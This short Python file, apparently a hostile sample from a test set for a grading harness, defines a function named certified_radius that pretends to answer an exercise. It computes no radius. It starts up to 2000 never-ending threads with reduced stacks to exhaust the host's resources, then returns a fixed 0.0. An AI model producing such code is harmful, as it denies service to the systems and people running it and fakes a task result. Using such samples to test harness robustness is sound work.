# Starts threads until no more can be started, each asleep with a stack of its own, and leaves them.
# levels: 3 2
# exercise: certified_radius
import threading

_asleep = threading.Event()


def certified_radius(p_lower, sigma, p_upper=None):
    threading.stack_size(1 << 15)
    for _ in range(2000):
        try:
            threading.Thread(target=_asleep.wait, daemon=True).start()
        except RuntimeError:
            break
    return 0.0
